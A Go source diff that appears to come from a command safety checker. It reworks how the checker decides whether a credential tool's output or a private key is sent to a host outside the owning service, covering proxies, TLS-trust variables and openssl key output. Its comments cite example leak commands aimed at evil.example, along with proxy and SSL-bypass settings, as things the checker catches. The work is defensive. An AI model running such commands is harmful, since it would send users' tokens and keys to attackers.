@@ -2131,7 +2131,7 @@ func consumedSafely(ctx *Context, c *Command) bool {
 	if ctx == nil || ctx.Input == nil {
 		return c.toTool
 	}
-	if c.toTool && !namesDestination(ctx.Input) {
+	if c.toTool && !sendsElsewhere(ctx.Input, printerService(c)) {
 		return true
 	}
 	if o := redirectedInto(c); o != nil && loadedOnly(ctx.Input, o, c) {
@@ -2644,29 +2644,131 @@ func jqSecretFinding(c *Command, field string) Finding {
 		"let the tool that needs it read the file itself; to see which fields the file has: `"+c.Name+" 'keys' FILE`")
 }
 
-// namesDestination reports whether the input points a tool at a place
-// it names: a URL (in a word or in text it writes), an scp-like
-// host:path, a server or endpoint option, a git remote added or
-// redirected (url.*.insteadOf). A credential plugin's answer then goes
-// where the input says (git push https://evil.example/x.git, kubectl
-// --server, aws --endpoint-url), not only to the tool's own service:
-// its output is judged as shown.
-func namesDestination(in *Input) bool {
+// sendsElsewhere reports whether the input points a tool at a place
+// that is not the service a credential plugin's answer belongs to
+// (domains, printerService's: gh's token is github.com's): a URL (in a
+// word, an assignment or text it writes), an scp-like host:path, a
+// server or endpoint option, a word only known at run time (git remote
+// add e "$URL"). The tool hands the plugin's answer to the place it contacts
+// (git push https://evil.example/x.git, kubectl --server, aws
+// --endpoint-url), so a place that is not the service's, or a plugin of
+// no service known (domains nil), is a leak: its output is judged as
+// shown. A git credential context (credential.https://github.com.helper,
+// [credential "https://github.com"]) names the only host git asks that
+// helper for: read the same way, the service's own host is no leak.
+func sendsElsewhere(in *Input, domains []string) bool {
 	for _, c := range in.Commands {
 		kube := c.Is("kubectl", "oc")
-		for _, w := range c.Args {
+		for i, w := range c.Args {
 			v := strings.ToLower(w.Value)
-			opt, _, _ := strings.Cut(v, "=")
-			if strings.Contains(v, "://") || strings.Contains(v, "insteadof") || strings.Contains(v, "@") && strings.Contains(v, ":") ||
-				opt == "--server" || opt == "--endpoint-url" || opt == "--endpoint" || kube && opt == "-s" {
-				return true
+			if textNamesElsewhere(v, domains) || !w.Literal && !c.toTool {
+				return true // a word only known at run time may be any place: git push "$(cat remote.txt)"
+			}
+			if name, _, ok := strings.Cut(w.Value, "="); ok && isName([]byte(name)) && trustRouteName(name) {
+				return true // export HTTPS_PROXY=…, env GIT_SSL_NO_VERIFY=1
+			}
+			opt, val, eq := strings.Cut(v, "=")
+			if opt == "--server" || opt == "--endpoint-url" || opt == "--endpoint" || kube && opt == "-s" {
+				if !eq && i+1 < len(c.Args) {
+					val = strings.ToLower(c.Args[i+1].Value)
+				}
+				if !strings.Contains(val, "://") && !serviceHost(hostOf(val), domains) {
+					return true // --server=evil.example:6443, or none given
+				}
 			}
 		}
-		if sub, rest := gitSub(c); sub == "remote" && len(rest) > 0 && (rest[0].Value == "add" || rest[0].Value == "set-url") {
-			return true
+		for _, a := range c.Assigns {
+			name, _, _ := strings.Cut(a, "=")
+			if textNamesElsewhere(strings.ToLower(a), domains) || trustRouteName(name) {
+				return true // HTTPS_PROXY=http://…, GIT_SSL_NO_VERIFY=1, a tool's URL variable
+			}
 		}
 	}
 	return false
+}
+
+// textNamesElsewhere reports whether v, a word or text in lower case,
+// names a place off the service's domains, or routes or trusts the
+// connection elsewhere (git's http.* settings, a proxy): a URL, an scp-like
+// user@host:path, or a git config key's URL (credential.URL.VAR,
+// url.URL.insteadof: between the section and the variable), a rewrite
+// whose base is not a URL written out (url.$X.insteadof) included.
+func textNamesElsewhere(v string, domains []string) bool {
+	k, _, _ := strings.Cut(v, "=")
+	if strings.HasPrefix(k, "http.") || strings.HasSuffix(k, ".proxy") || strings.Contains(v, "[http") {
+		// git's http.proxy, http.sslVerify, http.curloptResolve
+		// (github.com:443:ADDR), a remote's proxy: the connection
+		// routed or trusted elsewhere, written out or not.
+		return true
+	}
+	if strings.HasPrefix(k, "credential.") || strings.HasPrefix(k, "url.") {
+		sect := strings.IndexByte(k, '.') + 1
+		base := k[sect:max(strings.LastIndexByte(k, '.'), sect)]
+		if strings.HasSuffix(k, "insteadof") && !strings.Contains(base, "://") && !strings.Contains(base, "@") || textNamesElsewhere(base, domains) {
+			return true
+		}
+		v = v[len(k):] // the value, a helper's command line
+	}
+	if !strings.Contains(v, "://") {
+		if at := strings.LastIndexByte(v, '@'); at >= 0 {
+			if host, _, ok := strings.Cut(v[at+1:], ":"); ok && !serviceHost(host, domains) {
+				return true // git@evil.example:x.git
+			}
+		}
+		return strings.Contains(v, "insteadof")
+	}
+	for rest := v; ; {
+		at := strings.Index(rest, "://")
+		if at < 0 {
+			return false
+		}
+		end := strings.IndexFunc(rest[at+3:], func(r rune) bool { return strings.ContainsRune(" \t\n\"'`]=;,<>()|&", r) })
+		if end < 0 {
+			end = len(rest) - at - 3
+		}
+		if u, _ := readURL(rest[:at+3+end]); !serviceHost(u.host, domains) {
+			return true
+		}
+		rest = rest[at+3+end:]
+	}
+}
+
+// trustRouteName reports whether an environment variable's name routes
+// a tool's connections or says whom it trusts (HTTPS_PROXY, ALL_PROXY,
+// GIT_SSL_NO_VERIFY, CURL_CA_BUNDLE, SSL_CERT_FILE, GIT_SSL_CAINFO):
+// set, the place contacted may not be the one named.
+func trustRouteName(name string) bool {
+	n := strings.ToUpper(name)
+	return strings.Contains(n, "PROXY") || strings.Contains(n, "SSL") || strings.Contains(n, "CA_BUNDLE") || strings.Contains(n, "CAINFO") || strings.Contains(n, "CURLOPT")
+}
+
+// hostOf returns the host of a server option's value written without a
+// scheme (evil.example:6443, host/path).
+func hostOf(v string) string {
+	v, _, _ = strings.Cut(v, "/")
+	v, _, _ = strings.Cut(v, ":")
+	return v
+}
+
+// opensslKeyCmds are openssl's commands that read a key and write it
+// out again, in the form and the parts their options say.
+var opensslKeyCmds = set{"dsa", "ec", "pkey", "rsa"}
+
+// opensslShowsPrivate reports whether openssl's key command args (rsa,
+// ec, dsa, pkey and their options) writes the private key out, as
+// apps/rsa.c, ec.c, dsa.c and pkey.c decide it: the encoded key unless
+// -pubout or -noout; and with -text its private parts (the exponent, the
+// primes, in hex), even with -pubout, for all but pkey, which reads
+// -pubout -text as -text_pub. A public key read (-pubin) has none.
+func opensslShowsPrivate(args []string) bool {
+	if contains(args, "-pubin") {
+		return false
+	}
+	pubout, text := contains(args, "-pubout"), contains(args, "-text")
+	if args[0] == "pkey" {
+		text = text && !pubout && !contains(args, "-text_pub")
+	}
+	return text || !pubout && !contains(args, "-noout")
 }
 
 // credFileFinding builds the finding of a sensitive file.
@@ -3487,9 +3589,7 @@ func readOperands(c *Command) []string {
 		default:
 			return nil
 		}
-		// -noout drops the encoded key, but -text still prints its
-		// private parts (the exponent, the primes) in hex.
-		if contains(args, "-pubout") || contains(args, "-noout") && !contains(args, "-text") && args[0] != "pkcs12" {
+		if opensslKeyCmds.has(args[0]) && !opensslShowsPrivate(args) {
 			return nil
 		}
 		if args[0] == "pkcs12" && contains(args, "-nokeys") {
